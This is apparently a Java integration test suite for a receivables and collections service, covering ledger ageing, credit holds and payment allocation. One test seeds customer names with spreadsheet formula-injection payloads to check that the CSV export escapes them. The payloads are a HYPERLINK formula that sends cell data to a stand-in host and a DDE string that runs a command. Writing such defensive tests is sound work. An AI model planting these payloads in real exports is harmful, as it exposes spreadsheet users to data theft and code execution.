package com.osb.salesops.receivables.api;

import java.math.BigDecimal;
import java.time.Duration;
import java.time.LocalDate;
import java.util.Date;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;
import com.osb.salesops.credit.CreditCheck;
import com.osb.salesops.credit.CreditRating;
import com.osb.salesops.receivables.NewInvoice;
import com.osb.salesops.receivables.NewPayment;
import com.osb.salesops.receivables.Receivables;
import com.osb.salesops.receivables.process.CollectionsSweep;
import com.osb.salesops.shared.security.Roles;
import com.osb.salesops.support.CustomerFixture;
import com.osb.salesops.support.Http;
import com.osb.salesops.support.PostgresIntegrationTest;
import com.osb.salesops.support.TestClock;
import com.osb.salesops.support.TestUsers;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * A small ledger aged over 120 days of simulated time on PostgreSQL: at each step the
 * daily sweep runs, the cases act in the job executor, and the ageing report (over HTTP,
 * as finance and as a rep), the credit hold of new orders and the grade at an evaluation
 * are checked. Customer X never pays its 10,000 due on day 0; customer Y pays its 5,000
 * in two parts.
 */
class CollectionsPostgresIT extends PostgresIntegrationTest {

	private static final LocalDate DUE = LocalDate.parse("2026-03-01");

	@LocalServerPort
	int port;

	@Autowired
	JdbcTemplate jdbc;

	@Autowired
	IdentityService identityService;

	@Autowired
	ManagementService managementService;

	@Autowired
	Receivables receivables;

	@Autowired
	CollectionsSweep sweep;

	@Autowired
	CreditCheck creditCheck;

	@Autowired
	CreditRating creditRating;

	@Autowired
	TaskService taskService;

	private String unpaid;

	@AfterEach
	void clockBack() {
		TestClock.reset();
	}

	@Test
	void agesALedgerOver120Days() {
		// given
		TestUsers.ensure(this.identityService, "fiona", Roles.FINANCE);
		CustomerFixture customers = new CustomerFixture(this.jdbc);
		long x = customers.customer("T01");
		long y = customers.customer("T02");
		customers.profile(x, "B", "1000000.00", "NET30");
		customers.profile(y, "B", "1000000.00", "NET30");
		this.unpaid = invoice(x, "10000.00", DUE);
		String unpaid = this.unpaid;
		String paid = invoice(y, "5000.00", DUE.plusDays(10));
		Http finance = new Http(this.port).as("fiona");

		// when / then, step by step
		step(0);
		assertThat(bucket(finance, "2026-03-01", customers.code(x), "CURRENT")).isEqualByComparingTo("10000.00");
		step(7);
		assertThat(bucket(finance, "2026-03-08", customers.code(x), "1-30")).isEqualByComparingTo("10000.00");
		// each case reads in the reader's words: where it stands, the last action, the
		// rep
		JsonNode cases = Http.json(finance.inLanguage("zh-CN").get("/api/receivables/collections"), 200).get("items");
		JsonNode reminded = null;
		for (JsonNode found : cases) {
			if (unpaid.equals(found.path("invoiceNumber").asText())) {
				reminded = found;
			}
		}
		assertThat(reminded).isNotNull();
		assertThat(reminded.path("lastAction").asText()).isEqualTo("REMIND_CUSTOMER");
		assertThat(reminded.path("lastActionText").asText()).isEqualTo("提醒客户付款");
		assertThat(reminded.path("statusText").asText()).isEqualTo("催收中");
		assertThat(reminded.path("repName").asText()).isEqualTo("Tina");
		assertThat(this.jdbc.queryForObject("select count(*) from notification where subject = ?", Long.class,
				"Payment reminder: invoice " + unpaid))
			.isEqualTo(1L);
		this.receivables
			.recordPayment(new NewPayment(y, null, new BigDecimal("2000.00"), "Y-1", null, List.of(paid), null));
		step(30);
		assertThat(bucket(finance, "2026-03-31", customers.code(y), "1-30")).isEqualByComparingTo("3000.00");
		assertThat(creditResult(x)).isEqualTo("PASS");
		step(60);
		assertThat(bucket(finance, "2026-04-30", customers.code(x), "31-60")).isEqualByComparingTo("10000.00");
		assertThat(creditResult(x)).isEqualTo("HOLD");
		this.receivables
			.recordPayment(new NewPayment(y, null, new BigDecimal("3000.00"), "Y-2", null, List.of(), null));
		step(61);
		assertThat(bucket(finance, "2026-05-01", customers.code(x), "61-90")).isEqualByComparingTo("10000.00");
		assertThat(line(finance, "2026-05-01", customers.code(y))).isNull();
		step(91);
		assertThat(bucket(finance, "2026-05-31", customers.code(x), "OVER_90")).isEqualByComparingTo("10000.00");
		assertThat(this.creditRating.refresh(x, TestClock.today(), null).rated()).isEqualTo(1);
		assertThat(this.jdbc.queryForObject("select grade from credit_profile where customer_id = ?", String.class, x))
			.isEqualTo("E");
		step(120);
		JsonNode report = Http.json(finance.get("/api/receivables/ageing?asOf=2026-06-29&by=rep"), 200);
		assertThat(report.path("total").path("buckets").path("OVER_90").decimalValue())
			.isGreaterThanOrEqualTo(new BigDecimal("10000.00"));
		assertThat(this.jdbc.queryForList("select a.action from collection_action a join invoice i"
				+ " on i.id = a.invoice_id where i.number = ? order by a.id", String.class, unpaid))
			.containsExactly("REMIND_CUSTOMER", "CALL_TASK", "CREDIT_HOLD", "ESCALATE");
		assertThat(finance.get("/api/receivables/ageing?by=week").statusCode()).isEqualTo(400);
		assertThat(new Http(this.port).as("fiona").get("/api/receivables/ageing?format=csv").body())
			.startsWith("customer,name,CURRENT,1-30,31-60,61-90,OVER_90,TOTAL");
	}

	@Test
	void writesACustomersNameIntoAgeingCsvAsTextASpreadsheetDoesNotRun() {
		// given customers whose names a spreadsheet would take for formulas
		TestUsers.ensure(this.identityService, "fiona", Roles.FINANCE);
		CustomerFixture customers = new CustomerFixture(this.jdbc);
		Map<String, String> names = new java.util.LinkedHashMap<>();
		names.put("=HYPERLINK(\"http://x.example/?\"&A1,\"付款\")",
				"\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"付款\"\")\"");
		names.put("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0");
		names.put("+86 公司", "'+86 公司");
		names.put("-2+3", "'-2+3");
		names.put("\t=1+1", "'\t=1+1");
		names.put("第一行\r=1+1", "\"第一行\r=1+1\"");
		for (String name : names.keySet()) {
			long customer = customers.customer("T01");
			this.jdbc.update("update customer set name = ? where id = ?", name, customer);
			invoice(customer, "100.00", TestClock.today().plusDays(30));
		}

		// when
		String csv = new Http(this.port).as("fiona").get("/api/receivables/ageing?format=csv").body();

		// then each name is one cell, read as text
		names.forEach((name, cell) -> assertThat(csv).as(name).contains("," + cell + ","));
		assertThat(csv).doesNotContain(",=").doesNotContain(",@").doesNotContain(",+").doesNotContain(",\t");
	}

	@Test
	void keepsAPaymentForAnUnknownCustomerForFinanceToAllocate() {
		// given
		TestUsers.ensure(this.identityService, "fiona", Roles.FINANCE);
		CustomerFixture customers = new CustomerFixture(this.jdbc);
		long customer = customers.customer("T01");
		String invoice = invoice(customer, "700.00", TestClock.today().plusDays(30));
		Http finance = new Http(this.port).as("fiona");
		// when
		var refused = finance.postJson("/api/receivables/payments",
				"{\"customerCode\": \"NOBODY\", \"amount\": 700.00, \"reference\": \"BANK-UNKNOWN-1\"}");
		// then
		assertThat(refused.statusCode()).isEqualTo(422);
		assertThat(refused.body()).contains("customerCode", "there is no customer NOBODY", "unallocated payment");
		Task task = this.taskService.createTaskQuery()
			.processInstanceBusinessKey("BANK-UNKNOWN-1")
			.taskCandidateGroup(Roles.FINANCE)
			.singleResult();
		// named after the payment, as every task after what it is about
		assertThat(task.getName()).startsWith("Allocate payment: BANK-UNKNOWN-1, ").contains("700.00");
		this.taskService.complete(task.getId(),
				Map.of("customerCode", customers.code(customer), "invoiceNumbers", invoice));
		assertThat(this.jdbc.queryForObject("select status from unallocated_payment where reference = ?", String.class,
				"BANK-UNKNOWN-1"))
			.isEqualTo("ALLOCATED");
		assertThat(this.jdbc.queryForObject(
				"select r.open_amount from receivable r join invoice i on i.id = r.invoice_id where i.number = ?",
				BigDecimal.class, invoice))
			.isZero();
		var accepted = finance.postJson("/api/receivables/payments", "{\"customerCode\": \"" + customers.code(customer)
				+ "\", \"amount\": 50.00, \"reference\": \"BANK-KNOWN-1\"}");
		assertThat(accepted.statusCode()).isEqualTo(201);
		assertThat(finance.postJson("/api/receivables/payments", "{\"amount\": -1}").statusCode()).isEqualTo(422);
		// a payment is reported once it came in, never ahead of its day
		var ahead = finance.postJson("/api/receivables/payments",
				"{\"customerCode\": \"" + customers.code(customer)
						+ "\", \"amount\": 50.00, \"reference\": \"BANK-AHEAD-1\", \"receivedOn\": \""
						+ TestClock.today().plusDays(1) + "\"}");
		assertThat(Http.json(ahead, 422).get("errors").findValuesAsText("field")).containsExactly("receivedOn");
		assertThat(this.jdbc.queryForObject("select count(*) from payment where reference = 'BANK-AHEAD-1'",
				Integer.class))
			.isZero();
	}

	/**
	 * Day n after the due date: the sweep, every case's jobs done, and the call or
	 * escalation of the unpaid invoice answered (no answer; noted).
	 */
	private void step(int days) {
		LocalDate day = DUE.plusDays(days);
		ClockUtil.setCurrentTime(Date.from(day.atTime(10, 0).atZone(TestClock.BUSINESS_ZONE).toInstant()));
		this.sweep.sweep(day);
		jobsDone();
		for (Task task : this.taskService.createTaskQuery().processInstanceBusinessKey(this.unpaid).list()) {
			this.taskService.complete(task.getId(),
					Map.of("callOutcome", "NO_ANSWER", "escalationNote", "Propose a write-off in June"));
			jobsDone();
		}
	}

	private void jobsDone() {
		await().atMost(Duration.ofSeconds(60))
			.until(() -> this.managementService.createJobQuery().messages().executable().count() == 0);
	}

	private String creditResult(long customerId) {
		return this.creditCheck.check(customerId, new BigDecimal("100.00"), "probe-" + System.nanoTime(), null)
			.creditResult();
	}

	private String invoice(long customerId, String amount, LocalDate due) {
		String number = this.receivables
			.issueInvoice(new NewInvoice(customerId, null, new BigDecimal(amount), due.minusDays(30), due, null));
		this.receivables.post(number);
		return number;
	}

	private static BigDecimal bucket(Http http, String asOf, String customer, String bucket) {
		JsonNode line = line(http, asOf, customer);
		return (line != null) ? line.path("buckets").path(bucket).decimalValue() : BigDecimal.ZERO;
	}

	private static JsonNode line(Http http, String asOf, String customer) {
		JsonNode report = Http.json(http.get("/api/receivables/ageing?asOf=" + asOf + "&by=customer"), 200);
		for (JsonNode line : report.path("lines")) {
			if (customer.equals(line.path("key").asText())) {
				return line;
			}
		}
		return null;
	}

}
